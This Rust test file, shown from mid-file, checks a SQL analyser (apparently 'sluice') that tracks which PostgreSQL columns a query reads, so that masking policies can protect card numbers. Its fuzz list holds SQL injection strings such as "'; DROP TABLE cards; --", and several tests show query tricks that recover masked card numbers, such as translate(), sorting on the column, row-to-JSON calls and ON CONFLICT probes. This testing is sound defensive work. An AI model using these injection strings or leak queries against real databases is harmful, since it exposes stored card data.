    let s = one(r#"SELECT * FROM U&"c!0061rds" UESCAPE '!'"#);
    assert_eq!(tables(&s), ["read:cards"]);
    // Nested comments and `$` inside names do not confuse the parser.
    let s = one("SELECT /* outer /* inner */ still comment */ pan FROM cards");
    assert_eq!(columns(&s), ["cards.pan"]);
    let s = one("SELECT a$b FROM cards");
    assert_eq!(columns(&s), ["cards.a$b"]);
    // A name past 63 bytes reaches the object named by its first 63.
    let long = format!("SELECT * FROM {}", "t".repeat(70));
    assert_eq!(tables(&one(&long)), [format!("read:{}", "t".repeat(63))]);
    // With standard_conforming_strings off, a backslash escapes the quote.
    let all = analyse(r"SELECT 'x\'y' FROM cards", false);
    assert_eq!(tables(&all[0].statement), ["read:cards"]);
}

#[test]
fn remembered_shapes_give_the_analysis_parsing_would() {
    let mut analyser = Analyser::default();
    let first = analyser.analyse("SELECT pan FROM cards WHERE id = 1", true);
    let again = analyser.analyse("SELECT pan FROM cards WHERE id = 2", true);
    assert_eq!(
        again[0].statement.text,
        "SELECT pan FROM cards WHERE id = 2"
    );
    assert_eq!(again[0].statement.columns, first[0].statement.columns);
    assert_eq!(again[0].statement.tables, first[0].statement.tables);
    // A name is not a value: another column is another shape.
    let other = analyser.analyse("SELECT holder FROM cards WHERE id = 2", true);
    assert_eq!(columns(&other[0].statement), ["cards.holder", "cards.id"]);
    // Where a value decides the analysis, nothing is remembered.
    let real = analyser.analyse("DELETE FROM orders WHERE note LIKE 'x%'", true);
    let everything = analyser.analyse("DELETE FROM orders WHERE note LIKE '%'", true);
    assert!(real[0].statement.has_where);
    assert!(!everything[0].statement.has_where);
    let explain = analyser.analyse("EXPLAIN (ANALYZE 0) DELETE FROM orders WHERE id = 1", true);
    let analyze = analyser.analyse("EXPLAIN (ANALYZE 1) DELETE FROM orders WHERE id = 1", true);
    assert_eq!(explain[0].statement.wrappers, [Wrapper::Explain]);
    assert_eq!(analyze[0].statement.wrappers, [Wrapper::ExplainAnalyze]);
    let quiet = analyser.analyse("SET search_path = 'public'", true);
    let loud = analyser.analyse("SET search_path = 'evil'", true);
    assert_eq!(
        quiet[0].statement.settings[0].value.as_deref(),
        Some("public")
    );
    assert_eq!(loud[0].statement.settings[0].value.as_deref(), Some("evil"));
    // A string and a number are shapes of their own: `holder 'x'` is a
    // value of type `holder`, `holder 0` nothing the server runs.
    let typed = analyser.analyse("SELECT pan FROM cards WHERE holder 'x' = 'y'", true);
    let broken = analyser.analyse("SELECT pan FROM cards WHERE holder 0 = 'y'", true);
    assert_eq!(typed[0].statement.kind, StatementKind::Select);
    assert_eq!(broken[0].statement.kind, StatementKind::Unparsed);
    // Whether a bit string parses depends on its digits: not remembered.
    let hex = analyser.analyse("SELECT pan FROM cards WHERE flags = x'1F'", true);
    let not_hex = analyser.analyse("SELECT pan FROM cards WHERE flags = x'\\'", true);
    assert_eq!(hex[0].statement.kind, StatementKind::Select);
    assert_eq!(not_hex[0].statement.kind, StatementKind::Unparsed);
    // In a multi-statement string, a remembered shape still says so.
    let multi = analyser.analyse("SELECT pan FROM cards WHERE id = 3; SELECT 1", true);
    assert!(multi[0].statement.is_multi);
}

#[test]
fn hostile_nesting_does_not_overflow_the_stack() {
    let deep = format!("SELECT {}1{}", "(".repeat(5000), ")".repeat(5000));
    let all = analyse(&deep, true);
    assert_eq!(all.len(), 1);
    assert_eq!(all[0].statement.kind, StatementKind::Unparsed);
}

/// Texts a session might repeat with other values, and the traps around
/// literals a template must not fall into.
const TEMPLATE_BASES: &[&str] = &[
    "SELECT abalance FROM pgbench_accounts WHERE aid = 48213;",
    "select pan, holder from cards where id = 7 and holder = 'Ann'",
    "  SELECT pan FROM cards WHERE id IN (1, 22, 333) ; -- trailing 5\n",
    "/* lead 1 */ SELECT pan FROM cards WHERE id=-5 AND holder<>'x'",
    "SELECT pan FROM cards WHERE holder = 'a b' OR id = 10 LIMIT 3",
    "UPDATE orders SET amount = 12, note = 'n' WHERE id = 4",
    "INSERT INTO orders (id, note) VALUES (1, 'é ü'), (2,'')",
    "DELETE FROM orders WHERE id = 9",
    "SELECT '5'::int + 2 FROM cards WHERE id = 1",
    "SELECT pan FROM cards WHERE id = 1\n",
];

/// Bytes a client could put where a literal was: quotes, escapes, comment
/// markers, statement ends, letters that make numbers or prefixes.
const HOSTILE: &[&str] = &[
    "0",
    "7",
    "123",
    "'",
    "''",
    "\\",
    "\\'",
    ";",
    " ",
    "\n",
    "--",
    "/*",
    "*/",
    "e",
    "E",
    "x",
    "0x",
    ".",
    "1.5",
    "$",
    "$$",
    "U&",
    "N",
    "é",
    "a",
    "_",
    ")",
    "(",
    ",",
    "'; DROP TABLE cards; --",
    "1; SELECT pan FROM cards",
    "\"",
    "::",
    "-",
    "+",
    "\t",
];

/// A deterministic generator for the differential test below.
struct XorShift(u64);

impl XorShift {
    fn below(&mut self, n: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 % n as u64) as usize
    }
}

/// A variant of `base`: its literals given other values (some hostile), or
/// a hostile piece put in at a random place.
fn variant(base: &str, rng: &mut XorShift) -> String {
    let spans: Vec<(usize, usize)> = lexer::spanned_tokens(base, true)
        .unwrap()
        .iter()
        .filter(|t| matches!(t.token, Token::Number(_) | Token::String(_)))
        .map(|t| (t.start, t.end))
        .collect();
    if rng.below(4) == 0 || spans.is_empty() {
        let mut at = rng.below(base.len() + 1);
        while !base.is_char_boundary(at) {
            at -= 1;
        }
        let piece = HOSTILE[rng.below(HOSTILE.len())];
        return format!("{}{piece}{}", &base[..at], &base[at..]);
    }
    let mut out = String::new();
    let mut from = 0;
    for (start, end) in spans {
        out.push_str(&base[from..start]);
        let written = &base[start..end];
        match rng.below(6) {
            // Another value of the same plain form: the common case.
            0..=3 if written.starts_with('\'') => {
                out.push('\'');
                for _ in 0..rng.below(6) {
                    out.push_str(["a", "Z", "9", " ", "é", "%", "\n"][rng.below(7)]);
                }
                out.push('\'');
            }
            0..=3 => out.push_str(&(rng.below(1_000_000)).to_string()),
            4 => out.push_str(written),
            _ => {
                for _ in 0..1 + rng.below(3) {
                    out.push_str(HOSTILE[rng.below(HOSTILE.len())]);
                }
            }
        }
        from = end;
    }
    out.push_str(&base[from..]);
    out
}

/// Whatever a text holds, a template says it is a statement of its shape
/// only when the lexer finds exactly that statement of that shape, and the
/// analysis it gives is the one parsing gives.
#[test]
fn a_template_matches_only_what_lexing_would_find_the_same() {
    let mut rng = XorShift(0x5eed_cafe_f00d_d00d);
    for base in TEMPLATE_BASES {
        let pieces = lexer::statements(base, true).unwrap();
        assert_eq!(pieces.len(), 1, "{base}");
        let (piece, tokens) = &pieces[0];
        let shape: std::sync::Arc<str> = shape_of(tokens).unwrap().into();
        let statement = analyse(base, true).remove(0).statement;
        let template = template::Template::of(base, piece, true, shape.clone(), statement)
            .unwrap_or_else(|| panic!("no template of {base}"));
        let mut analyser = Analyser::default();
        analyser.analyse(base, true);
        assert_eq!(analyser.templates.len(), 1, "{base}");
        let mut matched = 0;
        for _ in 0..3000 {
            let text = variant(base, &mut rng);
            let fresh = analyse(&text, true);
            if let Some(statement_text) = template.matches(&text, true) {
                matched += 1;
                let lexed = lexer::statements(&text, true).unwrap();
                assert_eq!(lexed.len(), 1, "{text:?} matched {base:?}");
                assert_eq!(lexed[0].0.text, statement_text, "{text:?}");
                assert_eq!(shape_of(&lexed[0].1).as_deref(), Some(&*shape), "{text:?}");
            }
            // Through an analyser holding the template: what parsing gives.
            let remembered = analyser.analyse(&text, true);
            assert_eq!(remembered.len(), fresh.len(), "{text:?}");
            for (remembered, fresh) in remembered.iter().zip(&fresh) {
                assert_eq!(remembered.statement, fresh.statement, "{text:?}");
                assert_eq!(remembered.effect, fresh.effect, "{text:?}");
            }
            // The same text under the other string setting is not matched.
            assert_eq!(template.matches(&text, false), None);
        }
        // The plain case is common in the variants: most must match.
        assert!(matched > 1000, "{base}: only {matched} of 3000 matched");
    }
}

/// Literals that could join the bytes around them, and literals of other
/// forms, make no template: the statement is lexed every time.
#[test]
fn literals_that_could_join_their_neighbours_make_no_template() {
    for text in [
        "SELECT pan FROM cards WHERE id = 1.5",
        "SELECT pan FROM cards WHERE id = 0x1F",
        "SELECT pan FROM cards WHERE holder = E'a'",
        "SELECT pan FROM cards WHERE holder = 'it''s'",
        "SELECT pan FROM cards WHERE holder = $$a$$",
        "SELECT pan FROM cards WHERE holder = U&'a'",
        "SELECT pan FROM cards WHERE id = 1e3",
        "SELECT pan FROM cards WHERE holder = 'a'\n'b'",
    ] {
        let mut analyser = Analyser::default();
        analyser.analyse(text, true);
        assert!(analyser.templates.is_empty(), "{text}");
        // Still remembered as a shape: the analysis is reused after lexing.
        assert_eq!(analyser.shapes.len(), 1, "{text}");
    }
    // A later text of the same shape with plain literals still makes one.
    let mut analyser = Analyser::default();
    analyser.analyse("SELECT pan FROM cards WHERE id = 1.5", true);
    assert!(analyser.templates.is_empty());
    analyser.analyse("SELECT pan FROM cards WHERE id = 7", true);
    assert_eq!(analyser.templates.len(), 1);
    // Several statements in one string make none either.
    let mut analyser = Analyser::default();
    analyser.analyse("SELECT pan FROM cards WHERE id = 1; SELECT 2", true);
    assert!(analyser.templates.is_empty());
}

/// Columns read as stored, as `table.column` like [`columns`].
fn read_as_stored(statement: &Statement) -> Vec<String> {
    let mut stored = statement.clone();
    stored.columns.retain(|c| c.as_stored);
    columns(&stored)
}

/// A column is read as stored when every use of it sends its values to
/// the client whole, where a masker sees them: named bare in the select
/// list of the statement's own query, or ordered by.
#[test]
fn columns_selected_bare_are_read_as_stored() {
    for (sql, expected) in [
        ("SELECT pan FROM cards", &["cards.pan"][..]),
        // id is ordered by (compared), pan only selected.
        (
            "SELECT c.pan AS card, id FROM cards c ORDER BY id",
            &["cards.pan"],
        ),
        ("SELECT * FROM cards", &["cards.*"]),
        ("SELECT c.* FROM cards c", &["cards.*"]),
        ("SELECT public.cards.pan FROM public.cards", &["cards.pan"]),
        (
            "SELECT pan FROM cards UNION ALL SELECT pan FROM old_cards",
            &["cards.pan", "old_cards.pan"],
        ),
        ("(SELECT pan FROM cards)", &["cards.pan"]),
        ("DECLARE c CURSOR FOR SELECT pan FROM cards", &["cards.pan"]),
        ("COPY cards TO STDOUT", &["cards.*"]),
        ("COPY cards (pan) TO STDOUT", &["cards.pan"]),
        (
            "COPY (SELECT pan FROM cards) TO STDOUT (FORMAT csv)",
            &["cards.pan"],
        ),
        // Options sqlparser cannot read: sluice reads the COPY itself.
        (
            "COPY (SELECT pan FROM cards) TO STDOUT (FORMAT csv, HEADER on)",
            &["cards.pan"],
        ),
        ("COPY cards TO STDOUT (FORMAT csv, HEADER on)", &["cards.*"]),
        (
            "SELECT j.* FROM (cards CROSS JOIN (VALUES (1)) v(x)) AS j",
            &["cards.*"],
        ),
        // id is compared, pan only selected.
        ("SELECT pan FROM cards WHERE id = 7", &["cards.pan"]),
        // A tagged table only counted reads no column.
        ("SELECT count(*) FROM cards", &[]),
    ] {
        assert_eq!(read_as_stored(&one(sql)), expected, "{sql}");
    }
}

/// Any other use computes on the values, compares them, or reads them
/// where their values do not go to the client whole: none is as stored,
/// and a column used both ways is not.
#[test]
fn columns_computed_on_compared_or_nested_are_not_read_as_stored() {
    for sql in [
        "SELECT pan || 'x' FROM cards",
        "SELECT 'card' || pan FROM cards",
        "SELECT substr(pan, 1, 8) FROM cards",
        "SELECT pan::bigint FROM cards",
        "SELECT (pan) FROM cards",
        "SELECT reverse(pan) FROM cards",
        "SELECT to_jsonb(c) FROM cards c",
        "SELECT row(c.*) FROM cards c",
        "SELECT pan FROM cards WHERE pan LIKE '4111%'",
        "SELECT pan FROM cards GROUP BY pan",
        "SELECT pan FROM cards ORDER BY substr(pan, 5, 1)",
        // Sorting by the values: the order of two masked card numbers
        // tells about their hidden digits, and among values the client
        // chose (a UNION ALL) it tells them outright.
        "SELECT id, pan FROM cards ORDER BY pan",
        "SELECT id FROM cards c ORDER BY translate(c.pan, '0123456789', 'abcdefghij')",
        "SELECT id FROM cards ORDER BY cards.pan",
        "SELECT pan AS x FROM cards ORDER BY x",
        "SELECT pan FROM cards ORDER BY 1",
        "SELECT pan, NULL::int AS g FROM cards UNION ALL SELECT '411111' || g, g FROM s ORDER BY 1, 2",
        "SELECT pan FROM cards UNION ALL SELECT x FROM s ORDER BY pan",
        // Duplicates removed or grouped: compared.
        "SELECT DISTINCT pan FROM cards",
        "SELECT pan, count(*) FROM cards GROUP BY 1",
        // Renamed or reached through a join's alias.
        "SELECT reverse(p) FROM cards AS c(i, cu, p)",
        "SELECT p FROM cards AS c(i, cu, p)",
        "SELECT reverse(j.pan) FROM (cards CROSS JOIN (VALUES (1)) v(x)) AS j",
        "SELECT to_jsonb(j) FROM (cards CROSS JOIN (VALUES (1)) v(x)) AS j",
        // A name resolved to the wrong source: a join's alias hides the
        // names inside it, a subquery in FROM does not see those beside
        // it, and three parts are schema.table.column first.
        "SELECT translate(c.pan, '0123456789', 'abcdefghij') \
         FROM ((SELECT 1) c CROSS JOIN (SELECT 1) d) AS j, cards c",
        "SELECT (SELECT s.t FROM (SELECT 1) c, \
         (SELECT translate(c.pan, '0123456789', 'abcdefghij') AS t) s) FROM cards c",
        "SELECT translate(public.cards.pan, '0123456789', 'abcdefghij') \
         FROM cards, (SELECT 1) AS public",
        // Attribute notation: `c.f` is f(c), the whole row.
        "SELECT translate(c.to_jsonb ->> 'pan', '0123456789', 'abcdefghij') FROM cards c",
        "SELECT id FROM cards c WHERE c.to_jsonb ->> 'pan' LIKE '4111%'",
        "SELECT c.hash_record FROM cards c",
        "SELECT translate(c.text, '0123456789', 'abcdefghij') FROM cards c",
        "SELECT translate(public.cards.text, '0123456789', 'abcdefghij') FROM public.cards",
        "COPY (SELECT pan FROM cards) TO '/tmp/out' (FORMAT csv, HEADER on)",
        "SELECT DISTINCT ON (pan) pan FROM cards",
        "SELECT pan FROM cards c JOIN old_cards o USING (pan)",
        "SELECT (SELECT pan FROM cards LIMIT 1)",
        "SELECT x FROM (SELECT pan AS x FROM cards) s",
        "SELECT * FROM (SELECT pan FROM cards) s",
        "WITH p AS (SELECT pan FROM cards) SELECT pan FROM p",
        "SELECT pan FROM cards INTERSECT SELECT '4111111111111111'",
        "SELECT pan FROM cards EXCEPT SELECT pan FROM old_cards",
        "SELECT pan FROM cards UNION SELECT pan FROM old_cards",
        "SELECT pan INTO copied FROM cards",
        "INSERT INTO notes (body) SELECT pan FROM cards",
        "UPDATE cards SET holder = 'x' WHERE id = 1 RETURNING pan",
        "COPY (SELECT pan FROM cards) TO '/tmp/out'",
        "COPY cards TO '/tmp/out'",
        "SELECT pan, pan || 'x' FROM cards",
    ] {
        let statement = one(sql);
        let pan_read = statement.columns.iter().any(|c| {
            c.access == ColumnAccess::Read && matches!(c.column.as_deref(), Some("pan") | None)
        });
        assert!(pan_read, "{sql}: pan is read: {:#?}", statement.columns);
        // A policy asks whether every read that may be pan's is as stored
        // (an unresolved `pan` may be cards'): one must not be.
        let computed = statement.columns.iter().any(|c| {
            c.access == ColumnAccess::Read
                && !c.as_stored
                && matches!(c.column.as_deref(), Some("pan") | None)
        });
        assert!(
            computed,
            "{sql}: every read of pan is as stored: {:#?}",
            statement.columns
        );
    }
}

/// A join by USING or NATURAL compares columns it never writes as an
/// expression: they are read, or a client with no right to see card
/// numbers could ask whether one is there.
#[test]
fn columns_compared_by_using_and_natural_joins_are_read() {
    let s = one("SELECT count(*) FROM cards JOIN (VALUES ('4111111111111111')) v(pan) USING (pan)");
    assert_eq!(columns(&s), ["?.pan"]);
    let s = one("SELECT count(*) FROM cards NATURAL JOIN (VALUES ('4111111111111111')) v(pan)");
    assert_eq!(columns(&s), ["cards.*"]);
    let s = one("SELECT id FROM orders o LEFT JOIN cards c USING (card_id, pan)");
    assert_eq!(columns(&s), ["?.card_id", "?.id", "?.pan"]);
    assert!(
        read_as_stored(&s).iter().all(|c| c == "?.id"),
        "{:?}",
        read_as_stored(&s)
    );
}

/// `c.to_jsonb` is the call to_jsonb(c): the function is named, and the
/// whole row read, so a policy sees both.
#[test]
fn attribute_notation_calls_are_functions_of_the_whole_row() {
    let s = one("SELECT c.to_jsonb FROM cards c");
    assert_eq!(functions(&s), [("to_jsonb".to_owned(), true)]);
    assert_eq!(columns(&s), ["cards.*"]);
    assert!(read_as_stored(&s).is_empty());
    // PostgreSQL 16's aggregates and an extension's hstore(record): none
    // is among PostgreSQL 15's built-ins, so each is a call sluice cannot
    // see into.
    for (sql, function) in [
        (
            "SELECT c.jsonb_agg_strict::text FROM cards c",
            "jsonb_agg_strict",
        ),
        ("SELECT c.any_value FROM cards c", "any_value"),
        ("SELECT c.hstore -> 'pan' FROM cards c", "hstore"),
    ] {
        let s = one(sql);
        assert_eq!(functions(&s), [(function.to_owned(), false)], "{sql}");
        assert_eq!(columns(&s), ["cards.*"], "{sql}");
    }
    // A column of another name stays a column.
    let s = one("SELECT c.brand FROM cards c");
    assert!(functions(&s).is_empty());
    assert_eq!(read_as_stored(&s), ["cards.brand"]);
}

/// The target of a write is a table, whatever CTE of its name is in scope
/// (PostgreSQL does not let one hide it); a MERGE that only does nothing
/// still reads its target; a name found in several scopes is read as each.
#[test]
fn names_resolve_where_postgresql_resolves_them() {
    let s = one("WITH cards AS (SELECT 1) DELETE FROM cards WHERE id = 1 RETURNING pan");
    assert_eq!(tables(&s), ["delete:cards", "read:cards"]);
    assert_eq!(columns(&s), ["cards.id", "cards.pan"]);
    let s = one(
        "MERGE INTO cards USING (SELECT 1) s ON translate(pan, '0', 'a')::int = 0 \
         WHEN MATCHED THEN DO NOTHING",
    );
    assert!(
        tables(&s).contains(&"read:cards".to_owned()),
        "{:?}",
        tables(&s)
    );
    // Two sources in scope: pan is unresolved, which counts for cards.
    assert_eq!(columns(&s), ["?.pan"]);
    let s = one("SELECT c.pan FROM (orders c CROSS JOIN orders d) AS j, cards c");
    assert_eq!(columns(&s), ["?.pan", "cards.pan", "orders.pan"]);
    assert!(read_as_stored(&s).is_empty());
    let s = one("SELECT c.json_agg FROM cards c");
    assert_eq!(columns(&s), ["cards.*"]);
    assert_eq!(functions(&s), [("json_agg".to_owned(), true)]);
}

/// ON CONFLICT compares the rows to insert with those stored, on the
/// arbiter's columns: whether a row was inserted tells whether its value
/// was there. So the arbiter's columns are read, never as stored; with
/// no column list (any unique index) every column is.
#[test]
fn on_conflict_reads_the_columns_it_compares() {
    let s = one("INSERT INTO cards (pan) VALUES ('4111111111111111') ON CONFLICT (pan) DO NOTHING");
    assert_eq!(tables(&s), ["insert:cards"]);
    assert_eq!(columns(&s), ["cards.pan"]);
    assert_eq!(written(&s), ["cards.pan"]);
    assert!(s.columns.iter().all(|c| !c.as_stored));
    let s = one("INSERT INTO cards (pan) VALUES ('4111111111111111') \
         ON CONFLICT (pan) WHERE brand = 'visa' DO NOTHING");
    // (`brand` could be the target's or `excluded`'s: unresolved.)
    assert_eq!(columns(&s), ["?.brand", "cards.pan"]);
    // An index expression as the arbiter is beyond the parser: unparsed,
    // which policies refuse.
    let s = one(
        "INSERT INTO cards (pan) VALUES ('4111111111111111') ON CONFLICT (lower(pan)) DO NOTHING",
    );
    assert_eq!(s.kind, StatementKind::Unparsed);
    for sql in [
        "INSERT INTO cards (pan) VALUES ('4111111111111111') ON CONFLICT DO NOTHING",
        "INSERT INTO cards (pan) VALUES ('4111111111111111') ON CONFLICT ON CONSTRAINT cards_pan_key DO NOTHING",
        "INSERT INTO public.cards AS c (pan) VALUES ('4111111111111111') ON CONFLICT DO NOTHING RETURNING id",
    ] {
        let s = one(sql);
        assert!(
            s.columns.iter().any(|c| c.access == ColumnAccess::Read
                && c.column.is_none()
                && c.table.as_ref().is_some_and(|t| t.name == "cards")),
            "{sql}: every column of cards is read: {:#?}",
            s.columns
        );
    }
    // `excluded` is the row proposed: its values are the statement's own.
    let s = one(
        "INSERT INTO cards (id, pan) VALUES (1, '4111111111111111') \
         ON CONFLICT (id) DO UPDATE SET pan = excluded.pan, brand = cards.brand",
    );
    assert_eq!(columns(&s), ["cards.brand", "cards.id"]);
    assert_eq!(written(&s), ["cards.brand", "cards.id", "cards.pan"]);
    // Unless a name in a subquery hides it.
    let s = one(
        "INSERT INTO cards (id) VALUES (1) ON CONFLICT (id) DO UPDATE \
         SET brand = (SELECT excluded.pan FROM cards excluded LIMIT 1)",
    );
    assert!(
        columns(&s).contains(&"cards.pan".to_owned()),
        "{:?}",
        columns(&s)
    );
    // A plain INSERT compares nothing it is not told.
    let s = one("INSERT INTO cards (pan) VALUES ('4111111111111111')");
    assert!(columns(&s).is_empty(), "{:?}", columns(&s));
}

/// A write's RETURNING reads the rows it wrote — the stored rows an
/// UPDATE or DELETE met — so it is a read of the target, and `*` or
/// `c.*` reads every column, never as stored.
#[test]
fn returning_reads_what_it_returns() {
    for (sql, read) in [
        (
            "UPDATE cards SET brand = brand WHERE id = 1 RETURNING *",
            "cards.*",
        ),
        (
            "DELETE FROM cards c WHERE c.id = 1 RETURNING c.*",
            "cards.*",
        ),
        (
            "INSERT INTO cards (id, pan) VALUES (1, '0') \
             ON CONFLICT (id) DO UPDATE SET brand = cards.brand RETURNING *",
            "cards.*",
        ),
        (
            "UPDATE cards SET brand = brand WHERE id = 1 RETURNING pan",
            "cards.pan",
        ),
    ] {
        let s = one(sql);
        assert!(
            tables(&s).contains(&"read:cards".to_owned()),
            "{sql}: {:?}",
            tables(&s)
        );
        assert!(
            columns(&s).contains(&read.to_owned()),
            "{sql}: {:?}",
            columns(&s)
        );
        assert!(
            s.columns.iter().all(|c| !c.as_stored),
            "{sql}: {:#?}",
            s.columns
        );
    }
    // Through a data-modifying CTE, the rows' every column is read where
    // they were returned.
    let s = one(
        "WITH u AS (UPDATE cards SET brand = brand WHERE id BETWEEN 1 AND 1000000 RETURNING *) \
         SELECT id, translate(pan, '0123456789', 'abcdefghij') FROM u",
    );
    assert!(
        columns(&s).contains(&"cards.*".to_owned()),
        "{:?}",
        columns(&s)
    );
    // PostgreSQL 18's `old` and `new`: the target's row.
    for sql in [
        "UPDATE orders SET status = status WHERE id = 1 RETURNING old.*",
        "UPDATE cards SET brand = brand WHERE id = 1 \
         RETURNING translate(old::text, '0123456789', 'abcdefghij')",
        "DELETE FROM cards WHERE id = 1 RETURNING to_jsonb(new)",
        "UPDATE cards SET brand = brand WHERE id = 1 RETURNING OLD.pan",
    ] {
        let s = one(sql);
        let target = if sql.contains("orders") {
            "orders"
        } else {
            "cards"
        };
        assert!(
            columns(&s).contains(&format!("{target}.*"))
                || columns(&s).contains(&format!("{target}.pan")),
            "{sql}: {:?}",
            columns(&s)
        );
    }
    let s = one("UPDATE cards SET brand = 'x' WHERE id = 1 RETURNING id");
    assert_eq!(columns(&s), ["cards.id"]);
    // No RETURNING, no read of the target beyond its WHERE.
    let s = one("UPDATE cards SET brand = 'x' WHERE id = 1");
    assert_eq!(tables(&s), ["update:cards"]);
}
